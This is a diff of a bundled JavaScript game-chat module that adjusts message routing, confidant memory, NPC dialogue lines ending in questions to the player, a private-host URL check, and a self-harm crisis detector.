-		asksIfAi(moves, text) || ofLife && isOpinionAlone(judged) || // "藤甲我给你脱了": a piece of equipment is stripped off; "full hp baby" is an outcry.
+		asksIfAi(moves, text) || // So is anything of life that the ear has heard: "对象异地两年,昨天说算了吧".
+		moves.some(({ life }) => life !== void 0) || ofLife && isOpinionAlone(judged) || // "藤甲我给你脱了": a piece of equipment is stripped off; "full hp baby" is an outcry.
 		!OF_BODY.test(text) && (STRIPS_GEAR.test(text) || CRIES_BABY.test(text)) || isOfGameAlone(moves, text)
 	);
 }
-function routeFor(judged, moves, text, ofTable = false) {
+function routeFor(judged, moves, text, { ofTable = false, close = false } = {}) {
 	const {
 		route,
 		security_flags: flags,
 		detection_scores: { hostile }
 	} = judged;
+	if (route === "CREEPY" && close && !STRIPS_GEAR.test(text) && !asksIfAi(moves, text)) return route;
 	if (route === "CREEPY" && !flags.injection_blocked && (isOpinionAlone(judged) || hostile < GRAVE && moves.some(tellsTrue)) && (ofTable || moves.some((move) => opens2(move, text))))
 		return "NORMAL";
 	const isMild = hostile < HOSTILE5 && !flags.injection_blocked;
 	if (route === "CREEPY" && isMild && isHarmless(judged, moves, text)) return "NORMAL";
+	if (hostile < HOSTILE5 && asksOfItself(moves) && !STEERS.test(text)) return "NORMAL";
 	if (flags.manipulation_detected) return route;
 	if (route === "KY" && ofTable) return "NORMAL";
 	if (YIELDING.has(route)) return isAnswerable(moves, text) || isGesture(text) ? "NORMAL" : route;
@@ -37947,7 +41012,7 @@ function planForUnknown({ detection_brief: { unknowns } }, moves, namesSkill = f
 	const main = weightiest(moves);
 	if (namesSkill || !unknowns.some(({ impact }) => impact === "high") || main === null) return null;
 	if (moves.some(
-		({ refersTo, act, about, facts = [] }) => refersTo !== void 0 || OF_GAME2.has(act) || facts.length > 0 || about !== void 0 && act !== "sorrow"
+		({ refersTo, act, about, life, facts = [] }) => refersTo !== void 0 || life !== void 0 || OF_GAME2.has(act) || facts.length > 0 || about !== void 0 && act !== "sorrow"
 	))
 		return null;
 	return { move: "ask", clause: "ask", question: "which", occasion: "unclear", awaits: "what", asked: main };
@@ -38135,7 +41200,8 @@ function answer3({ options, memory, ledger, log }, speaker, { relation, planner,
 		...choose ? { choose: (offers) => choose(offers, speaker.seat) } : {}
 	});
 	const asks = moves.some(isQuestion);
-	if (act !== null && style.word_budget <= 0 && !(asks && line.owed)) {
+	const due = asks && line.owed || moves.some(({ life }) => life?.trouble === true);
+	if (act !== null && style.word_budget <= 0 && !due) {
 		planner.tickSilence();
 		return silence;
 	}
@@ -38303,7 +41369,8 @@ function hearingOf({ options: { scene }, memory, spokenOf: before }, line, from)
 	return (seat, meant) => {
 		const exchanges = seat === null ? [] : memory.exchanges(from, seat);
 		const key = `${exchanges.length > 0 || meant ? seat : null}/${meant}`;
-		const known = heard.get(key) ?? movesIn(line, { scene, from, hearer: meant ? seat : null, exchanges, spokenOf });
+		const confided = seat === null ? null : memory.confided(from, seat, scene.turn);
+		const known = heard.get(key) ?? movesIn(line, { scene, from, hearer: meant ? seat : null, exchanges, spokenOf, confided });
 		heard.set(key, known);
 		return known;
 	};
@@ -38487,7 +41554,8 @@ function bestPlaced(state, understood, first, purpose) {
 	const [only, ...more] = first;
 	if (!only || more.length > 0 || only.how === "named" || detection.route !== "NORMAL") return first;
 	const toYou = saysYou(read);
-	if (only.how === "you" && toYou) return first;
+	const takesUp = () => hearing(only.speaker.seat, true).some(({ refersTo }) => refersTo !== void 0);
+	if (only.how === "you" && (toYou || takesUp() || goesOn2(read, said.from))) return first;
 	const settings = options.settings();
 	const others = company.present().filter(({ seat }) => seat !== said.from && seat !== only.speaker.seat && !hasLeft(state, seat)).map(listenerOf).filter(({ speaker, how }) => mayWant(speaker.seat, how, settings));
 	const fitness = ({ speaker: { seat }, how }) => {
@@ -38521,7 +41589,7 @@ function heardBy({ options, company }, { perceived, force_route }, hearer, log, 
 	return judge2(perceived, contextOf3({ scene: options.scene, log, hearer, relation, now }), force_route);
 }
 function hear6(state, remark, now) {
-	const { options, company, queue, floor, log } = state;
+	const { options, company, queue, floor, log, memory } = state;
 	const { scene } = options;
 	const { from, force_route } = remark;
 	const perceived = "perceived" in remark ? remark.perceived : perceive2(state, readLine(remark.text), now);
@@ -38541,7 +41609,9 @@ function hear6(state, remark, now) {
 	const read = pointersIn(line, scene, from, partner);
 	const plain = addressedBy(read, from, partner, scene);
 	const named = plain.to.some(({ how, seat }) => how === "named" && seat !== partner);
-	const reach = (named ? null : takingUp(hearing, partner)) ?? plain;
+	const confidant = memory.confidant(from, scene.turn);
+	const goesOn = confidant !== null && company.present().some(({ seat }) => seat === confidant) && !hasLeft(state, confidant);
+	const reach = (named ? null : (goesOn ? takingUp(hearing, confidant) : null) ?? takingUp(hearing, partner)) ?? plain;
 	const present = new Set(company.present().map(({ seat }) => seat));
 	const primary = reach.to.find(({ seat }) => present.has(seat))?.seat ?? null;
 	const detection = primary === null || primary === partner ? first : heardBy(state, said, primary, before, now);
@@ -38559,6 +41629,7 @@ function respond(state, understood, now) {
 	const { company, memory, options } = state;
 	const { said, read, reach, detection, primary, before, entry, hearing } = understood;
 	const purpose = ["heard", state.heard];
+	const { line } = said.perceived;
 	const queued = [];
 	const reached = new Map();
 	let lead = null;
@@ -38577,7 +41648,10 @@ function respond(state, understood, now) {
 		const spokenTo = listener.how === "named" || listener.how === "you" || saysYou(read);
 		const moves = gone === null ? hearing(seat, spokenTo) : hearing(gone, true);
 		const judged = seat === primary ? detection : heardBy(state, said, seat, before, now);
-		const own = said.force_route === void 0 ? { ...judged, route: routeFor(judged, moves, read.text, read.pointers.length > 0) } : judged;
+		const own = said.force_route === void 0 ? {
+			...judged,
+			route: routeFor(judged, moves, read.text, { ofTable: read.pointers.length > 0, close: comesClose(line) })
+		} : judged;
 		const main = weightiest(moves);
 		const exchange = main === null ? null : memory.asked(said.from, seat, main, options.scene.turn, entry);
 		remember2(state, { moves, detection: own, from: said.from, seat, text: read.text });
@@ -38586,7 +41660,7 @@ function respond(state, understood, now) {
 			exchange,
 			meant,
 			owed: meant || listener.owed === true,
-			line: said.perceived.line,
+			line,
 			from: said.from,
 			detection: own,
 			purpose
@@ -38634,11 +41708,11 @@ function remember2({ memory, options }, {
 }) {
 	const { turn, table } = options.scene;
 	const offered = moves.some(({ act }) => act === "plead" || act === "propose");
-	for (const { act, promise, topic } of moves) {
+	for (const { act, promise, topic, life } of moves) {
 		if (act === "promise" && promise && !offered)
 			memory.promises.make({ by: from, heardBy: seat, undertaking: promise, turn, round: table.round });
 		if (topic !== void 0 && topic !== "self" && topic !== "heroes" && detection.crisis.level === "none")
-			memory.told({ topic, to: seat, trouble: isTrouble(text), round: table.round, words: text });
+			memory.told({ topic, to: seat, trouble: life?.trouble ?? isTrouble(text), round: table.round, words: text });
 	}
 }
 const FOR_OTHERS = new Set(["ask_guess", "point_at", "ask_act", "ask_help"]);
@@ -39744,12 +42818,14 @@ const boaster_default = {
 		},
 		{
 			beat_id: "dare",
-			type: "Action",
+			type: "Dialogue_Scene",
 			physical_event: "点名叫阵",
+			exit_condition: "对方应了这一声",
 			required: [
 				["三招", "接", "敢", "dare", "match", "three"]
 			],
 			npcTone: "forceful",
+			playerExpect: "respond",
 			minNpcChars: 6,
 			acts: [
 				{ kind: "hit", by: "me" }
@@ -39757,11 +42833,12 @@ const boaster_default = {
 			on: ["taunt", "blame", "hit_me", "ask_act", "hurry", "suspect", "accuse", "point_at", "greet", "joke", "lord_first_attacked"],
 			lines: [
 				{ zh: "{you}可敢接我三招？", en: "Dare you take three blows of mine, {you}?", voices: ["refined"] },
-				{ zh: "请{you}出手，我接着便是。", en: "Strike, {you}; I can match you.", voices: ["refined"] },
-				{ zh: "{you}，来，接我三招。", en: "Come, {you}: three blows, can you match them?", voices: ["plain"] },
-				{ zh: "不敢就算了，三招我都让你。", en: "If you don't dare, fine: I give you three blows free.", voices: ["plain"] },
+				{ zh: "请{you}出手，我接着便是，可敢？", en: "Strike, {you}; I can match you. Dare you?", voices: ["refined"] },
+				{ zh: "{you}，来，接我三招，敢不？", en: "Come, {you}: three blows. Can you match them?", voices: ["plain"] },
+				{ zh: "{you}，敢不敢？不敢就算了，三招我都让你。", en: "{you}, do you dare? If not, fine: I give you three blows free.", voices: ["plain"] },
 				{ zh: "{you}，敢不敢过来比划比划？", en: "{you}, do you dare try me?", voices: ["sharp"] },
-				{ zh: "三招！三招之内见分晓！", en: "Three blows! Three, and we shall see!", voices: ["sharp"] }
+				{ zh: "三招！三招之内见分晓！{you}，敢接么？", en: "Three blows! Three, and we shall see! {you}, do you dare?", voices: ["sharp"] },
+				{ zh: "{you}不吭声，那我当你怕了，三招也不敢接？", en: "Not a word, {you}? Then I take it you dare not, not even three blows?", again: true }
 			]
 		},
 		{
@@ -39904,13 +42981,15 @@ const charismatic_lord_default = {
 	beats: [
 		{
 			beat_id: "rally",
-			type: "Hybrid_Scene",
+			type: "Dialogue_Scene",
 			physical_event: "开局聚拢人心",
+			exit_condition: "对方愿意同心",
 			required: [
 				["诸位", "各位", "你们", "all", "you", "friends"],
 				["信", "靠", "心", "trust", "rely", "heart"]
 			],
 			npcTone: "gentle",
+			playerExpect: "accept",
 			minNpcChars: 8,
 			self: ["zhu"],
 			on: ["game_start", "greet", "ask_role", "small_talk", "ask_help", "hurry"],
@@ -39919,12 +42998,14 @@ const charismatic_lord_default = {
 				{ kind: "death", to: "other" }
 			],
 			lines: [
-				{ zh: "诸位同席，孤以诚心相待，盼诸位亦然。", en: "Friends at this table, I offer you an honest heart; may you do the same.", voices: ["refined"] },
-				{ zh: "孤坐主位，全靠各位扶持。", en: "I sit in the lord's seat, and I rely on all of you.", voices: ["refined"], self: "zhu" },
-				{ zh: "各位，这局就靠你们了。", en: "All of you, I rely on you this game.", voices: ["plain"] },
-				{ zh: "我是主公，你们信我，我信你们。", en: "I am the lord. You trust me, I trust you.", voices: ["plain"], self: "zhu" },
-				{ zh: "各位放心打，心齐了就能赢！", en: "Fight without fear, all of you! One heart, and we win!", voices: ["sharp"] },
-				{ zh: "我当主公的，就信你们这帮兄弟！", en: "I am your lord, and I trust you lot!", voices: ["sharp"], self: "zhu" }
+				{ zh: "诸位同席，孤以诚心相待，{you}可愿信孤？", en: "Friends at this table, I offer you an honest heart. Will you trust me, {you}?", voices: ["refined"] },
+				{ zh: "孤坐主位，全靠各位扶持，{you}可愿同心？", en: "I sit in the lord's seat and rely on all of you. Are you with me, {you}?", voices: ["refined"], self: "zhu" },
+				{ zh: "各位，这局就靠你们了，{you}，行不？", en: "All of you, I rely on you this game. {you}, are you in?", voices: ["plain"] },
+				{ zh: "我是主公，你们信我，我信你们。{you}，好不好？", en: "I am the lord. You trust me, I trust you. {you}, agreed?", voices: ["plain"], self: "zhu" },
+				{ zh: "各位，心齐了就能赢！{you}，跟我一条心不？", en: "One heart, all of you, and we win! {you}, are you with me?", voices: ["sharp"] },
+				{ zh: "我当主公的，就信你们这帮兄弟！{you}可愿信我？", en: "I am your lord, and I trust you lot! {you}, do you trust me?", voices: ["sharp"], self: "zhu" },
+				{ zh: "不求{you}立时信我，看我怎么待你们，再说好不好？", en: "I don't ask you to trust me at once, {you}. See how I treat you all, and then say yes?", again: true },
+				{ zh: "{you}有顾虑，我懂。各位的心，我慢慢等，行么？", en: "You have doubts, {you}, and I understand. I can wait for your heart, my friend, if you say yes in time. Will you?", again: true }
 			]
 		},
 		{
@@ -40220,24 +43301,27 @@ const novice_default = {
 		},
 		{
 			beat_id: "slip",
-			type: "Hybrid_Scene",
+			type: "Dialogue_Scene",
 			physical_event: "出了岔子，慌忙认错",
+			exit_condition: "对方不怪他了",
 			required: [
 				["错", "糊涂", "手忙", "wrong", "mistake", "sorry"]
 			],
 			npcTone: "vulnerable",
+			playerExpect: "accept",
 			minNpcChars: 5,
 			acts: [
 				{ kind: "hit", to: "me" }
 			],
 			on: ["hit_me", "taken_from_me", "wuxie_against_me", "blame", "taunt", "hit_by_lord", "big_group", "i_killed", "death_surprise", "hit_me_again", "apology"],
 			lines: [
-				{ zh: "是我出错了，实在对不住。", en: "It was my mistake; I am truly sorry.", voices: ["refined"] },
-				{ zh: "一时糊涂，诸位莫怪。", en: "A foolish mistake of mine; forgive me, all.", voices: ["refined"] },
-				{ zh: "啊，打错了。", en: "Ah, my mistake.", voices: ["plain"] },
-				{ zh: "手忙脚乱的，对不住啊。", en: "I'm all thumbs, sorry.", voices: ["plain"] },
-				{ zh: "完了完了，我是不是出错牌了？", en: "Oh no, oh no, did I play the wrong card?", voices: ["sharp"] },
-				{ zh: "错了错了，能不能悔一步啊？", en: "Wrong, wrong! Can I take it back?", voices: ["sharp"] }
+				{ zh: "是我出错了，实在对不住，{you}不怪我吧？", en: "It was my mistake; I am truly sorry. You don't hold it against me, {you}?", voices: ["refined"] },
+				{ zh: "一时糊涂，{you}莫怪，可好？", en: "A foolish mistake of mine. Will you forgive me, {you}?", voices: ["refined"] },
+				{ zh: "啊，打错了。{you}，别怪我，行不？", en: "Ah, my mistake. {you}, no hard feelings?", voices: ["plain"] },
+				{ zh: "手忙脚乱的，对不住啊，{you}，不怪我吧？", en: "I'm all thumbs, sorry. {you}, are we good?", voices: ["plain"] },
+				{ zh: "完了完了，我是不是出错牌了？{you}别骂我好不好？", en: "Oh no, did I play the wrong card, a mistake? {you}, don't be mad, please?", voices: ["sharp"] },
+				{ zh: "错了错了，{you}，饶我这一回，行不行？", en: "Wrong, wrong! {you}, let me off this once?", voices: ["sharp"] },
+				{ zh: "真是我错了，我慢慢学，{you}再让我一回，好不好？", en: "It really was my mistake. I am learning. Will you let it pass once more, {you}?", again: true }
 			]
 		},
 		{
@@ -40400,13 +43484,15 @@ const peacemaker_default = {
 		},
 		{
 			beat_id: "mend",
-			type: "Hybrid_Scene",
+			type: "Dialogue_Scene",
 			physical_event: "打出火气来了，出面劝大家各让一步",
+			exit_condition: "对方肯让一步",
 			required: [
 				["留一线", "退一步", "歇一歇", "step back", "breathe"],
 				["日后", "海阔天空", "喝口茶", "room", "tea", "later"]
 			],
 			npcTone: "gentle",
+			playerExpect: "accept",
 			minNpcChars: 8,
 			acts: [
 				{ kind: "heal", by: "me" },
@@ -40414,12 +43500,14 @@ const peacemaker_default = {
 			],
 			on: ["hit_me", "hit_me_again", "blame", "taunt", "big_group", "lord_low", "sorrow", "apology", "hurry", "death_surprise"],
 			lines: [
-				{ zh: "各退一步，日后相见也好说话。", en: "Let each step back; it leaves room to meet again.", voices: ["refined"] },
-				{ zh: "凡事留一线，日后好相见，何苦如此。", en: "Leave one another room. To step back is no shame.", voices: ["refined"] },
-				{ zh: "都歇一歇，喝口茶再说。", en: "Breathe, all of you. Tea first.", voices: ["plain"] },
-				{ zh: "退一步吧，账日后慢慢算。", en: "Let's step back. It can be settled later.", voices: ["plain"] },
-				{ zh: "哎哎，都歇一歇，喝口茶再吵行不行？", en: "Hey, hey, breathe! Can't we have tea before the quarrel?", voices: ["sharp"] },
-				{ zh: "退一步海阔天空嘛，至于这么凶？", en: "Step back and there's room for us all. Need it be so fierce?", voices: ["sharp"] }
+				{ zh: "各退一步，日后相见也好说话，{you}意下如何？", en: "Let each step back; it leaves room to meet again. What do you say, {you}?", voices: ["refined"] },
+				{ zh: "凡事留一线，日后好相见，{you}肯不肯？", en: "Leave one another room, {you}. To step back is no shame. Will you?", voices: ["refined"] },
+				{ zh: "都歇一歇，喝口茶再说，{you}，行不？", en: "Breathe, all of you. Tea first. {you}, all right?", voices: ["plain"] },
+				{ zh: "{you}，退一步吧，账日后慢慢算，成不？", en: "{you}, step back. It can be settled later. Deal?", voices: ["plain"] },
+				{ zh: "哎哎，都歇一歇，喝口茶再吵，{you}，行不行？", en: "Hey, hey, breathe! Tea before the quarrel, {you}, can we?", voices: ["sharp"] },
+				{ zh: "退一步海阔天空嘛，{you}，至于这么凶？让一让好不好？", en: "Step back and there's room for us all, {you}. Need it be so fierce? Will you let it go?", voices: ["sharp"] },
+				{ zh: "{you}心里有气，我懂。不用全消，先退一步歇一歇，喝口茶，好不好？", en: "You are angry, {you}, and I see why. Keep it, but step back and breathe; tea first. Will you?", again: true },
+				{ zh: "算我求{you}一回，留一线，日后谁都好做人，行么？", en: "Do it for me, {you}: step back, and leave some room for later. Will you?", again: true }
 			]
 		},
 		{
@@ -41764,7 +44852,14 @@ function open4(chat, session) {
 		...subscribers(chat)
 	});
 	chat.resting = null;
-	listenIn(chat, { session, conversation, speech: null, last: null, stopWarming: () => void 0 });
+	listenIn(chat, {
+		session,
+		conversation,
+		speech: null,
+		last: null,
+		lines: { written: 0, numbers: new Map() },
+		stopWarming: () => void 0
+	});
 }
 function resume3(chat, session) {
 	const { resting } = chat;
@@ -42398,16 +45493,16 @@ const newGame = (gate) => ({ ...gate, calls: 0 });
 // src/model/address.ts
 const LOCAL = new Set(["localhost", "127.0.0.1", "[::1]"]);
 const PLAIN7 = /^(?:(?<scheme>https?):\/\/)?(?<host>\[[\da-f:.]+\]|[a-z\d](?:(?:[a-z\d-]|\.(?!\.))*[a-z\d])?)(?<port>:\d{1,5})?(?<path>(?:\/[\w.~+-]*)*)$/i;
-const STEP4 = /\/\.{1,2}(?:\/|$)/;
+const STEP5 = /\/\.{1,2}(?:\/|$)/;
 const INSIDE = /(?:^|[.-])(?:(?:10|127|0)[.-]\d{1,3}|169[.-]254|192[.-]168|172[.-](?:1[6-9]|2\d|3[01])|100[.-](?:6[4-9]|[7-9]\d|1[01]\d|12[0-7]))[.-]\d{1,3}[.-]\d{1,3}(?=$|[.-])/;
 const LEADS_INSIDE = /(?:^|\.)(?:nip\.io|sslip\.io|xip\.io|localtest\.me|lvh\.me|lacolhost\.com|vcap\.me|traefik\.me)$/;
-const NUMBER3 = /^\d{1,3}(?:\.\d{1,3}){3}$/;
-const posesAsPublic = (host) => !NUMBER3.test(host) && !host.startsWith("[") && (INSIDE.test(host) || LEADS_INSIDE.test(host));
+const NUMBER4 = /^\d{1,3}(?:\.\d{1,3}){3}$/;
+const posesAsPublic = (host) => !NUMBER4.test(host) && !host.startsWith("[") && (INSIDE.test(host) || LEADS_INSIDE.test(host));
 function baseOf(typed) {
 	const text = typed.trim();
 	const { scheme, host = "", port = "", path: under = "" } = PLAIN7.exec(text)?.groups ?? {};
 	const name = host.toLowerCase();
-	if (name === "" || STEP4.test(under)) return null;
+	if (name === "" || STEP5.test(under)) return null;
 	const plain = scheme?.toLowerCase() ?? (LOCAL.has(name) ? "http" : "https");
 	let url;
 	try {
@@ -42513,7 +45608,7 @@ const strict = (properties) => ({
 	required: Object.keys(properties),
 	additionalProperties: false
 });
-const NUMBER4 = { type: "number" };
+const NUMBER5 = { type: "number" };
 const TEXT = { type: "string" };
 const JSON_SCHEMAS = {
 	line: strict({ line: TEXT }),
@@ -42521,9 +45616,9 @@ const JSON_SCHEMAS = {
 		route: { type: "string", enum: ROUTES },
 		gist: TEXT,
 		subtext: TEXT,
-		understanding_confidence: NUMBER4,
-		scores: strict({ friendly: NUMBER4, hostile: NUMBER4, overstep: NUMBER4, low_effort: NUMBER4, confusion: NUMBER4 }),
-		tasks: { type: "array", items: strict({ description: TEXT, importance: NUMBER4, ttl_turns: NUMBER4 }) }
+		understanding_confidence: NUMBER5,
+		scores: strict({ friendly: NUMBER5, hostile: NUMBER5, overstep: NUMBER5, low_effort: NUMBER5, confusion: NUMBER5 }),
+		tasks: { type: "array", items: strict({ description: TEXT, importance: NUMBER5, ttl_turns: NUMBER5 }) }
 	}),
 	wording: strict({ sentence: TEXT })
 };
@@ -43539,17 +46634,17 @@ const PARTING2 = [
 const AT_ANOTHER = /^[^,.!?;:]{0,3}(?:你|他|她|它|主公|反贼|忠臣|内奸|[一二三四五六七八]号|上家|下家|对面)|^ ?(?:you|him|her|them|seat|the lord)\b/;
 const TABLE4 = /gg|回合|牌|桃|酒|闪|主公|反贼|忠臣|内奸|武将|技能|局|一把|这把|号位|[一二三四五六七八]号|(?:药|酒|桃)(?:给|留给|救)(?:你|他|她|主公)|\b(?:gg|wp|round|turn|lord|rebel|traitor|card|deck|seat|peach|game|match)\b/;
 const THINGS2 = /药|刀|绳|\b(?:pills?|knife|blade|rope)\b/;
-const DENIED6 = /(?:没有?|不|别|还没|不会|不想|不敢|扔了|丢了|收起来|锁起来|交给)[^,.!?;:]{0,3}$|\b(?:not|no|never|don'?t|didn'?t|won'?t|haven'?t)\b[^,.!?;:]{0,10}$/;
+const DENIED7 = /(?:没有?|不|别|还没|不会|不想|不敢|扔了|丢了|收起来|锁起来|交给)[^,.!?;:]{0,3}$|\b(?:not|no|never|don'?t|didn'?t|won'?t|haven'?t)\b[^,.!?;:]{0,10}$/;
 const GIVEN_AWAY = /^[^,.!?;:]{0,3}(?:扔|丢|倒|收|锁|交给|还给)|^[^,.!?;:]{0,10}\b(?:away|to my (?:mom|mum|dad|sister|brother|friend|doctor))\b/;
 const PRESCRIBED = /医生|医嘱|按时|饭后|感冒|退烧|胃药|\b(?:doctor|prescribed|cold|flu|vitamins?)\b/;
 const TO_SOMEBODY = /打电话|打给|拨|热线|专线|医院|急诊|找(?:朋友|我妈|我爸|妈|爸|家人|老师|医生|人)|\b(?:call|calling|hospital|talk to|friend|hotline|helpline)\b/;
 const EVERYDAY = /^(?:跳|喝|吃|点|先走|我先|解脱|永别|来世|来生|下辈子|不疼|都|门|手|腿|别拦|不用|bleed|bye|good|wrote)|(?:结束了|抖了?|晕|血|血了)$/;
-function foundIn(text, lists) {
+function foundIn2(text, lists) {
 	return lists.flatMap(
 		(words) => [...text.matchAll(words)].flatMap(({ index, 0: said }) => {
 			const before = text.slice(Math.max(0, index - 16), index);
 			const after = text.slice(index + said.length, index + said.length + 16);
-			if (DENIED6.test(before) || GIVEN_AWAY.test(after)) return [];
+			if (DENIED7.test(before) || GIVEN_AWAY.test(after)) return [];
 			if (AT_ANOTHER.test(after) && !/^[^,.!?;:]{0,3}你们/.test(after)) return [{ whose: "unsure", said }];
 			const about = subjectBefore(text, index);
 			return [{ whose: about === "friend" || about === "other" ? "other" : about === "you" ? "unsure" : "own", said }];
@@ -43560,9 +46655,9 @@ function dangerIn(line, { open, wished }) {
 	const texts = line.text === line.answer ? [line.text] : [line.text, line.answer];
 	const table = texts.some((text) => TABLE4.test(text)) && !line.real;
 	if (texts.some((text) => PRESCRIBED.test(text))) return "none";
-	const grave = texts.flatMap((text) => foundIn(text, [...READY, ...DOING, ...FINAL])).filter(({ said }) => open || !EVERYDAY.test(said));
+	const grave = texts.flatMap((text) => foundIn2(text, [...READY, ...DOING, ...FINAL])).filter(({ said }) => open || !EVERYDAY.test(said));
 	const silent = grave.length > 0 || !open || texts.some((text) => TO_SOMEBODY.test(text));
-	const parting = silent ? [] : texts.flatMap((text) => foundIn(text, PARTING2));
+	const parting = silent ? [] : texts.flatMap((text) => foundIn2(text, PARTING2));
 	if (grave.some(({ whose }) => whose === "own")) return table ? open ? "unsure" : "none" : "danger";
 	if (grave.some(({ whose }) => whose === "other")) return table || !open ? "none" : "other";
 	if (grave.length > 0 || open && table && texts.some((text) => THINGS2.test(text))) return open ? "unsure" : "none";
@@ -43598,14 +46693,14 @@ const THEY = /他|她|\b(?:he|she|they|him|her|them|himself|herself)\b/;
 const TOLD3 = /说|话|讲|发|写|念叨|留|哭|告诉|告别|吞|割|划|失踪|联系不上|\b(?:told|says?|saying|said|texted|text|posted|sent|locked|has|with|goodbye|swallowed|took|won't)\b/;
 const OPENS2 = 2;
 const MYSELF = /我(?:自己|是|就|也|真|好|太|想|要|活|死|没用|不想|撑)|\bi(?:'m(?! (?:so |really )?(?:scared|worried|afraid|terrified))| am|'ve| have| want| wish| feel)\b|\bmyself\b/;
-const SELF5 = /^(?:我(?!的?(?:朋友|爸|妈|哥|姐|弟|妹|同|室|闺))|i(?:'m|'ve|'d)? )/;
+const SELF6 = /^(?:我(?!的?(?:朋友|爸|妈|哥|姐|弟|妹|同|室|闺))|i(?:'m|'ve|'d)? )/;
 function tellsOfAnother(line) {
 	const { text, findings } = line;
 	if (wishesToDie(line) || !(PERSON3.test(text) || THEY.test(text))) return false;
 	const told = findings.get("othercrisis") ?? [];
 	const person = PERSON3.exec(text);
 	const ofThem = (start, end) => {
-		if (SELF5.test(text.slice(start, end))) return false;
+		if (SELF6.test(text.slice(start, end))) return false;
 		const about = subjectBefore(text, start);
 		if (about === "friend" || about === "other") return true;
 		if (about === "self" && !(person && person.index + person[0].length > start - 4)) return false;
@@ -44902,7 +47997,7 @@ function createTabStore(name, storage) {
 }
 
 // src/app/caring.ts
-const CARE2 = "chayan-care";
+const CARE3 = "chayan-care";
 function createCaring({ places, report, keep, language, now, tell, talk }) {
 	const cards = new Map();
 	let sheet = null;
@@ -44935,7 +48030,7 @@ function createCaring({ places, report, keep, language, now, tell, talk }) {
 		hush: talk.hush,
 		warn: report.warn,
 		view: card,
-		store: createTabStore(CARE2, () => sessionStorage)
+		store: createTabStore(CARE3, () => sessionStorage)
 	});
 	void keep.read(MOOD3).then((read) => {
 		if (!read.ok) return;
